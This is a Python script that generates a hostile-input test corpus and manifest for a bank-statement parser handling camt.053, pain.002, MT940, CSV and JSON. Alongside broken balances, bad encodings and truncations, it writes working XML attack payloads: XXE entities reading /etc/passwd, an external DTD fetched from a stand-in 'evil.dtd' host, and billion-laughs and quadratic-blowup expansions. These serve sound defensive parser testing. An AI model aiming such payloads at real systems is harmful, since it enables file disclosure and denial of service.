"""Writes the hostile-input corpus (run once; the files are committed). MANIFEST.json maps each
file to the mapping it is fed to and the specific error code it must produce."""

from __future__ import annotations

import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
NS53 = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"
GOOD = (HERE.parent / "samples" / "camt" / "camt053_v08_cny_full.xml").read_bytes()
GOOD_MT = (HERE.parent / "samples" / "mt940" / "mt940_generic_two_statements.sta").read_bytes()
GOOD_P2 = (HERE.parent / "samples" / "pain002" / "pain002_v03_partial.xml").read_bytes()
DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'
MANIFEST: dict[str, dict[str, object]] = {}


def put(name: str, data: bytes, kind: str, code: str, **options: object) -> None:
    (HERE / name).write_bytes(data)
    MANIFEST[name] = {"kind": kind, "code": code, **options}


def camt_with(prolog: bytes) -> bytes:
    return DECL + prolog + GOOD.split(b"?>", 1)[1]


put(
    "xxe_local_file.xml",
    camt_with(b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n').replace(
        b"<Id>STMT-", b"<Id>&x;STMT-"
    ),
    "statement",
    "doctype_forbidden",
)
put(
    "xxe_network.xml",
    camt_with(b'<!DOCTYPE Document SYSTEM "http://203.0.113.1/evil.dtd">\n'),
    "statement",
    "doctype_forbidden",
)
laughs = b"".join(
    b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">' % ((i,) + (i - 1,) * 10)
    for i in range(1, 10)
)
put(
    "billion_laughs.xml",
    DECL + b'<!DOCTYPE lolz [<!ENTITY l0 "lol">' + laughs + b"]>\n<lolz>&l9;</lolz>\n",
    "statement",
    "doctype_forbidden",
)
put(
    "billion_laughs_pain002.xml",
    DECL
    + b'<!DOCTYPE lolz [<!ENTITY l0 "lol">'
    + laughs
    + b"]>\n"
    + GOOD_P2.split(b"?>", 1)[1].replace(b"<MsgId>", b"<MsgId>&l9;", 1),
    "pain002",
    "doctype_forbidden",
)
big = b"A" * 50_000
put(
    "quadratic_blowup.xml",
    DECL
    + b'<!DOCTYPE d [<!ENTITY a "'
    + big
    + b'">]>\n<Document xmlns="'
    + NS53.encode()
    + b'">'
    + b"&a;" * 2000
    + b"</Document>",
    "statement",
    "doctype_forbidden",
)
put(
    "parameter_entity.xml",
    DECL + b'<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>\n<d/>',
    "pain002",
    "doctype_forbidden",
)
put(
    "doctype_after_comment.xml",
    DECL + b"<!-- innocent -->\n<!DOCTYPE Document [<!ENTITY x 'y'>]>\n" + GOOD.split(b"?>", 1)[1],
    "statement",
    "doctype_forbidden",
)
put(
    "doctype_lowercase.xml",
    DECL + b"<!doctype Document>\n" + GOOD.split(b"?>", 1)[1],
    "statement",
    "doctype_forbidden",
)
put(
    "utf16_doctype.xml",
    ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY x "y">]>\n<d>&x;</d>').encode("utf-16"),
    "pain002",
    "doctype_forbidden",
)
put(
    "undefined_entity.xml",
    GOOD.replace(b"<AddtlStmtInf>sandbox sample", b"<AddtlStmtInf>&undefined;"),
    "statement",
    "entity_forbidden",
)
deep = b"<X>" * 300 + b"</X>" * 300
put(
    "deep_nesting_300.xml", GOOD.replace(b"<AddtlNtryInf>", deep + b"<AddtlNtryInf>"), "statement", "too_deep"
)
put(
    "deep_nesting_100_pain002.xml",
    GOOD_P2.replace(b"<StsId>1</StsId>", b"<X>" * 100 + b"</X>" * 100),
    "pain002",
    "too_deep",
)
put(
    "oversized_text.xml",
    GOOD.replace(b"<Ustrd>\xe6\x8b\x86\xe5\x88\x86 P2</Ustrd>", b"<Ustrd>" + b"x" * 70_000 + b"</Ustrd>"),
    "statement",
    "text_too_long",
)
put(
    "oversized_text_pain002.xml",
    GOOD_P2.replace(b"<AddtlInf>", b"<AddtlInf>" + b"y" * 70_000),
    "pain002",
    "text_too_long",
)
put(
    "oversized_attribute.xml",
    GOOD_P2.replace(b'Ccy="CNY"', b'Ccy="' + b"C" * 70_000 + b'"'),
    "pain002",
    "text_too_long",
)
put(
    "wrong_namespace_version.xml",
    GOOD.replace(b"camt.053.001.08", b"camt.053.001.99"),
    "statement",
    "wrong_namespace",
)
put("no_namespace.xml", GOOD.replace(b' xmlns="' + NS53.encode() + b'"', b""), "statement", "wrong_namespace")
put("pain002_fed_as_statement.xml", GOOD_P2, "statement", "wrong_namespace")
put("camt_fed_as_pain002.xml", GOOD, "pain002", "wrong_namespace")
put("truncated_mid_entry.xml", GOOD[: GOOD.index(b"<RltdAgts>")], "statement", "truncated")
put("truncated_header.xml", GOOD[: GOOD.index(b"<CreDtTm>")], "statement", "truncated")
put("empty.xml", b"", "pain002", "malformed_xml")
put("garbage.bin", bytes(range(256)) * 4, "statement", "unknown_format")
put(
    "bad_encoding_declared_utf8.xml",
    GOOD.replace("到期清分".encode(), "到期清分".encode("gb18030")),
    "statement",
    "bad_encoding",
)
put(
    "over_precise_amount.xml",
    GOOD.replace(b'<Amt Ccy="CNY">500.00</Amt>', b'<Amt Ccy="CNY">500.005</Amt>'),
    "statement",
    "over_precise",
)
put(
    "negative_amount.xml",
    GOOD.replace(b'<Amt Ccy="CNY">500.00</Amt>', b'<Amt Ccy="CNY">-500.00</Amt>'),
    "statement",
    "negative_amount",
)
put(
    "exponent_amount.xml",
    GOOD.replace(b'<Amt Ccy="CNY">500.00</Amt>', b'<Amt Ccy="CNY">5E2</Amt>'),
    "statement",
    "invalid_amount",
)
put(
    "unknown_currency.xml",
    GOOD.replace(b'Ccy="CNY">500.00', b'Ccy="XXX">500.00'),
    "statement",
    "unknown_currency",
)
put(
    "broken_balance.xml",
    GOOD.replace(b'<Amt Ccy="CNY">1000000.00</Amt>', b'<Amt Ccy="CNY">1000000.01</Amt>'),
    "statement",
    "balance_mismatch",
)
put(
    "summary_mismatch.xml",
    GOOD.replace(b"<Sum>310500.50</Sum>", b"<Sum>310500.51</Sum>"),
    "statement",
    "summary_mismatch",
)
put("sequence_gap.xml", GOOD, "statement", "sequence_gap", last_sequences={"6222020200001234567": 300})
put("sequence_repeat.xml", GOOD, "statement", "sequence_repeat", last_sequences={"6222020200001234567": 400})
put(
    "mt940_bad_utf8.sta",
    GOOD_MT.replace(b"PAYMENT TO SUPPLIER", b"PAYMENT \xff\xfe SUPPLIER"),
    "statement",
    "bad_encoding",
)
put(
    "mt940_nul_bytes.sta",
    GOOD_MT.replace(b"PAYMENT TO SUPPLIER", b"PAYMENT\x00SUPPLIER"),
    "statement",
    "bad_encoding",
)
put(
    "mt940_broken_balance.sta",
    GOOD_MT.replace(b":60F:C261130CNY1000000,00", b":60F:C261130CNY1000000,01"),
    "statement",
    "balance_mismatch",
)
put(
    "mt940_sequence_gap.sta", GOOD_MT, "statement", "sequence_gap", last_sequences={"6222020200001234567": 99}
)
put("mt940_field_before_20.sta", b":25:123\r\n" + GOOD_MT, "statement", "malformed_statement")
put(
    "mt940_huge_86.sta",
    GOOD_MT.replace(b":86:year end", b":86:year end" + b"\r\nmore text" * 300),
    "statement",
    "text_too_long",
)
put("mt940_truncated.sta", GOOD_MT[: GOOD_MT.index(b":62F:")], "statement", "missing_field")
put("mt940_over_precise.sta", GOOD_MT.replace(b"D80000,NTRF", b"D80000,123NTRF"), "statement", "over_precise")
put(
    "pain002_unknown_status.xml",
    GOOD_P2.replace(b"<TxSts>ACSC</TxSts>", b"<TxSts>OKAY</TxSts>"),
    "pain002",
    "unknown_status",
)
put("srm_deep_json.json", b"[" * 100_000 + b"]" * 100_000, "srm", "too_deep")
put("srm_not_json.json", b'{"payables": [', "srm", "malformed_json")
put(
    "csv_missing_columns.csv",
    "交易日期,金额\r\n2026-12-01,1.00\r\n".encode("gb18030"),
    "statement",
    "missing_column",
    profile="csv-cn-bank",
)
(HERE / "MANIFEST.json").write_text(json.dumps(MANIFEST, indent=1, sort_keys=True) + "\n", "utf-8")
print(len(MANIFEST), "files")
